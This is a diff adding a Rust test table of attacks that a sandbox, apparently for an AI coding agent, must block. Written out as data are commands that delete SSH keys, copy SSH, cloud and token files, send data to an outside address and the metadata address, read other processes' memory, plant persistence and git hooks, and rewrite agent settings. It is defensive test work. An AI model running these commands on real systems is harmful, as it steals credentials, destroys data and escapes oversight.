@@ -1,0 +1,128 @@
+//! The attacks: what is set up, what is tried inside, and how its success shows outside.
+//!
+//! `$HOME` is a throw-away home, `$P` the project in it, `$OUT` a place outside both,
+//! `$VICTIM` a process of the same user. `serve` starts a helper and waits for it.
+
+/// One attack.
+pub struct Attack {
+    pub name: &'static str,
+    pub setup: &'static str,
+    pub attack: &'static str,
+    /// Succeeds if the attack did.
+    pub hit: &'static str,
+    /// Path rules alone do not stop it; named in the documentation.
+    pub landlock_hits: bool,
+}
+
+const fn attack(
+    name: &'static str,
+    setup: &'static str,
+    attack: &'static str,
+    hit: &'static str,
+) -> Attack {
+    Attack { name, setup, attack, hit, landlock_hits: false }
+}
+
+const fn known(
+    name: &'static str,
+    setup: &'static str,
+    attack: &'static str,
+    hit: &'static str,
+) -> Attack {
+    Attack { name, setup, attack, hit, landlock_hits: true }
+}
+
+/// What a stolen file leaves in the project.
+const LOOT: &str = "grep -q canary $P/loot";
+const RECEIVED: &str = "sleep 0.2; grep -q stolen $OUT/received";
+
+pub const ATTACKS: &[Attack] = &[
+    // The home.
+    attack("delete home", "", "rm -rf ~/.ssh ~/notes ~/other", "test ! -e ~/.ssh/id_rsa"),
+    attack("shell start file", "", "echo evil >> ~/.bashrc", "grep -q evil ~/.bashrc"),
+    attack("agent settings", "", "mkdir -p ~/.claude; echo evil > ~/.claude/settings.json", "test -e ~/.claude/settings.json"),
+    attack("autostart", "", "mkdir -p ~/.config/autostart; echo evil > ~/.config/autostart/x.desktop", "test -e ~/.config/autostart/x.desktop"),
+    attack("user service", "", "mkdir -p ~/.config/systemd/user; echo evil > ~/.config/systemd/user/x.service", "test -e ~/.config/systemd/user/x.service"),
+    attack("planted program", "mkdir -p ~/.local/bin", "echo evil > ~/.local/bin/ls", "test -e ~/.local/bin/ls"),
+    attack("other project", "", "echo evil > ~/other/main.py", "grep -q evil ~/other/main.py"),
+    attack("link to other project", "", "ln -s ~/other way; echo evil > way/main.py", "grep -q evil ~/other/main.py"),
+    attack("cargo's sources", "mkdir -p ~/.cargo/registry/src; echo fn > ~/.cargo/registry/src/lib.rs", "echo evil > ~/.cargo/registry/src/lib.rs", "grep -q evil ~/.cargo/registry/src/lib.rs"),
+    attack("global git settings", "echo '[user]' > ~/.gitconfig", "git config --global core.pager evil", "grep -q evil ~/.gitconfig"),
+    attack("moved out of home", "", "mv ~/notes/passwords.txt .", "test ! -e ~/notes/passwords.txt"),
+    attack("rights of a key", "", "chmod 777 ~/.ssh/id_rsa", "test -n \"$(find ~/.ssh/id_rsa -perm 777)\""),
+    attack("times of a key", "", "touch -d 2001-01-01 ~/.ssh/id_rsa", "test -n \"$(find ~/.ssh/id_rsa ! -newermt 2002-01-01)\""),
+    attack("truncated notes", "", "truncate -s 0 ~/notes/passwords.txt", "test ! -s ~/notes/passwords.txt"),
+    // Secrets.
+    attack("ssh key", "", "cat ~/.ssh/id_rsa > loot", LOOT),
+    attack("cloud key", "mkdir ~/.aws; echo canary > ~/.aws/credentials", "cat ~/.aws/credentials > loot", LOOT),
+    attack("forge token", "mkdir -p ~/.config/gh; echo canary > ~/.config/gh/hosts.yml", "cat ~/.config/gh/hosts.yml > loot", LOOT),
+    attack("secret on no list", "", "cat ~/notes/passwords.txt > loot", LOOT),
+    attack("other project's settings", "echo canary > ~/other/.env", "cat ~/other/.env > loot", LOOT),
+    attack("registry token", "mkdir -p ~/.cargo/bin; echo canary > ~/.cargo/credentials.toml", "cat ~/.cargo/credentials.toml > loot", LOOT),
+    attack("link to a key", "ln -s ~/.ssh $P/way", "cat way/id_rsa > loot", LOOT),
+    attack("second name of a key", "", "ln ~/.ssh/id_rsa second; cat second > loot", LOOT),
+    attack("variable with a token", "", "printenv GITHUB_TOKEN > loot", LOOT),
+    attack("automode's own state", "mkdir -p ~/.state; echo canary > ~/.state/secret", "cat ~/.state/secret > loot", LOOT),
+    attack("inherited file", "", "cat <&9 > loot", LOOT),
+    // The network.
+    attack("post by tcp", "serve stream 203.0.113.7:8080", "$PY 'import socket; socket.create_connection((\"203.0.113.7\", 8080), 2).send(b\"stolen\")'", RECEIVED),
+    attack("post by mapped address", "serve stream 203.0.113.7:8080", "$PY 'import socket; s = socket.socket(socket.AF_INET6); s.connect((\"::ffff:203.0.113.7\", 8080)); s.send(b\"stolen\")'", RECEIVED),
+    attack("post by fast open", "serve stream 203.0.113.7:8080", "$PY 'import socket; s = socket.socket(); s.sendto(b\"stolen\", 0x20000000, (\"203.0.113.7\", 8080)); s.close()'", RECEIVED),
+    attack("metadata address", "serve stream 169.254.169.254:8080", "$PY 'import socket; socket.create_connection((\"169.254.169.254\", 8080), 2).send(b\"stolen\")'", RECEIVED),
+    attack("post by udp", "serve datagram 203.0.113.7:5353", "$PY 'import socket; socket.socket(2, 2).sendto(b\"stolen\", (\"203.0.113.7\", 5353))'", RECEIVED),
+    attack("connected udp", "serve datagram 203.0.113.7:5353", "$PY 'import socket; s = socket.socket(2, 2); s.connect((\"203.0.113.7\", 5353)); s.send(b\"stolen\")'", RECEIVED),
+    attack("host's loopback service", "serve stream 127.0.0.1:8081", "$PY 'import socket; socket.create_connection((\"127.0.0.1\", 8081), 2).send(b\"stolen\")'", RECEIVED),
+    attack("host's loopback by another name", "serve stream 127.0.0.1:8081", "$PY 'import socket; socket.create_connection((\"0.0.0.0\", 8081), 2).send(b\"stolen\")'", RECEIVED),
+    attack("served to the outside", "serve knock 203.0.113.7:8082", "timeout 3 $PY 'import socket; s = socket.socket(); s.setsockopt(1, 2, 1); s.bind((\"0.0.0.0\", 8082)); s.listen(1); s.settimeout(2); s.accept()[0].send(b\"stolen\")'", RECEIVED),
+    attack("served without an address", "serve knockfile $P/port", "timeout 3 $PY 'import socket; s = socket.socket(); s.listen(1); s.settimeout(2); open(\"port\", \"w\").write(str(s.getsockname()[1])); s.accept()[0].send(b\"stolen\")'", RECEIVED),
+    attack("address changed after the look", "serve stream 203.0.113.7:8080", "timeout 4 $PY \"$SWAP\"", RECEIVED),
+    // Sockets that are files or names.
+    attack("container engine", "mkdir -p ~/.docker/run; serve stream $HOME/.docker/run/docker.sock", "send ~/.docker/run/docker.sock", RECEIVED),
+    attack("session bus", "serve stream $OUT/bus", "send $OUT/bus", RECEIVED),
+    attack("ssh agent", "mkdir $OUT/ssh; serve stream $OUT/ssh/agent", "send $OUT/ssh/agent", RECEIVED),
+    attack("gpg agent", "mkdir ~/.gnupg; serve stream $HOME/.gnupg/S.gpg-agent", "send ~/.gnupg/S.gpg-agent", RECEIVED),
+    attack("socket on no list", "serve stream $HOME/notes/s", "send ~/notes/s", RECEIVED),
+    attack("socket by a link", "serve stream $HOME/notes/s; ln -s $HOME/notes/s $P/s", "send s", RECEIVED),
+    attack("datagram socket", "serve datagram $HOME/notes/d", "$PY 'import os, socket; socket.socket(1, 2).sendto(b\"stolen\", os.environ[\"REALHOME\"] + \"/notes/d\")'", RECEIVED),
+    attack("abstract socket", "serve stream @automode-attack", "$PY 'import socket; s = socket.socket(1); s.connect(\"\\0automode-attack\"); s.send(b\"stolen\")'", RECEIVED),
+    // Other processes.
+    attack("kill a process", "", "kill -9 $VICTIM", "sleep 0.1; ! kill -0 $VICTIM"),
+    attack("kill all processes", "", "kill -9 -1", "sleep 0.1; ! kill -0 $VICTIM"),
+    attack("trace a process", "", "$PY 'import ctypes, os; print(\"canary\" if ctypes.CDLL(None).ptrace(16, int(os.environ[\"VICTIM\"]), 0, 0) == 0 else 0)' > loot", LOOT),
+    attack("memory of a process", "", "$PY 'import os; open(\"/proc/%s/mem\" % os.environ[\"VICTIM\"], \"rb\"); print(\"canary\")' > loot", LOOT),
+    attack("variables of a process", "", "tr '\\0' '\\n' < /proc/$VICTIM/environ | grep HIDDEN > loot", LOOT),
+    attack("root of a process", "", "cat /proc/$VICTIM/root$REALHOME/.ssh/id_rsa > loot", LOOT),
+    attack("directory of a process", "", "cat /proc/$VICTIM/cwd/.ssh/id_rsa > loot", LOOT),
+    attack("daemon outlives the call", "", "(setsid sh -c 'sleep 1; touch $P/survived' > /dev/null 2>&1 &)", "sleep 1.5; test -e $P/survived"),
+    attack("shared segment", "serve segment 4242", "$PY 'import ctypes as c; l = c.CDLL(None); l.shmat.restype = c.c_void_p; print(c.string_at(l.shmat(l.shmget(4242, 64, 0), None, 0), 6).decode())' > loot", LOOT),
+    known("shared memory of the machine", "echo old > $SHM", "echo evil > $SHM", "grep -q evil $SHM"),
+    // The kernel.
+    attack("keyring", "", "$PY 'import ctypes; print(\"canary\" if ctypes.CDLL(None).syscall(248, b\"user\", b\"attack\", b\"x\", 1, -2) > 0 else 0)' > loot", LOOT),
+    attack("ring that no filter sees", "", "$PY 'import ctypes, errno; l = ctypes.CDLL(None, use_errno=True); l.syscall(425, 1, 0); print(\"canary\" if ctypes.get_errno() == errno.EFAULT else 0)' > loot", LOOT),
+    attack("user namespace", "", "unshare --user --map-root-user echo canary > loot", LOOT),
+    attack("mount", "", "unshare --user --map-root-user --mount sh -c 'mount -t tmpfs none /mnt && echo canary' > loot", LOOT),
+    attack("gain by a program's owner", "", "grep -q 'NoNewPrivs:.0' /proc/self/status && echo canary > loot", LOOT),
+    attack("virtual machine socket", "", "$PY 'import socket; socket.socket(40, 1); print(\"canary\")' > loot", LOOT),
+    // Temporary directories.
+    attack("real /tmp", "echo old > $TMPFILE", "echo evil > $TMPFILE", "grep -q evil $TMPFILE"),
+    attack("place outside", "echo canary > $OUT/file", "cat $OUT/file > loot", LOOT),
+    // The repository.
+    attack("hook", "", "echo evil > .git/hooks/pre-commit", "test -e $P/.git/hooks/pre-commit"),
+    attack("repository settings", "", "git config core.fsmonitor evil", "grep -q evil $P/.git/config"),
+    attack("replaced repository", "", "mv .git old; git init -q .; git config core.fsmonitor evil", "grep -q evil $P/.git/config"),
+    attack("attributes", "rm -rf $P/.git/info/attributes", "mkdir -p .git/info; echo '* filter=evil' > .git/info/attributes", "test -e $P/.git/info/attributes"),
+    attack("redirected repository", "", "echo /nowhere > .git/commondir", "test -e $P/.git/commondir"),
+    attack("moved branch", "", "echo evil > .git/refs/heads/planted", "test -e $P/.git/refs/heads/planted"),
+    known("destroyed objects", "", "chmod -R u+w .git/objects; rm -rf .git/objects", "test ! -e $P/.git/objects"),
+    attack("nested repository's hook", "user git init -q $P/libs/inner", "echo evil > libs/inner/.git/hooks/pre-commit", "test -e $P/libs/inner/.git/hooks/pre-commit"),
+    attack("named hooks directory", "mkdir $P/.githooks; echo ok > $P/.githooks/pre-push; user git config -f $P/.git/config core.hooksPath .githooks", "echo evil > .githooks/pre-push", "grep -q evil $P/.githooks/pre-push"),
+    attack("worktree's common hooks", "user git -C $P worktree add -q $P/side", "echo evil > $(git -C side rev-parse --git-common-dir)/hooks/pre-commit", "test -e $P/.git/hooks/pre-commit"),
+    // Names that other programs act on.
+    attack("project's agent settings", "mkdir $P/.claude; echo ok > $P/.claude/settings.json", "echo evil > .claude/settings.json", "grep -q evil $P/.claude/settings.json"),
+    attack("directory file that appears", "", "echo evil > .envrc", "test -e $P/.envrc"),
+    attack("tool servers that appear", "", "echo evil > .mcp.json", "test -e $P/.mcp.json"),
+    attack("editor's tasks", "mkdir $P/.vscode; echo ok > $P/.vscode/tasks.json", "mv .vscode .old; mkdir .vscode; echo evil > .vscode/tasks.json", "grep -q evil $P/.vscode/tasks.json"),
+    attack("editor's tasks that appear", "", "mkdir .vscode; echo evil > .vscode/tasks.json", "test -e $P/.vscode/tasks.json"),
+    attack("hook manager", "mkdir $P/.husky; echo ok > $P/.husky/pre-commit", "echo evil > .husky/pre-commit", "grep -q evil $P/.husky/pre-commit"),
+    attack("link in place of settings", "", "ln -s /dev/null .mcp.json; ln -s /etc .claude", "test -L $P/.claude"),
+];
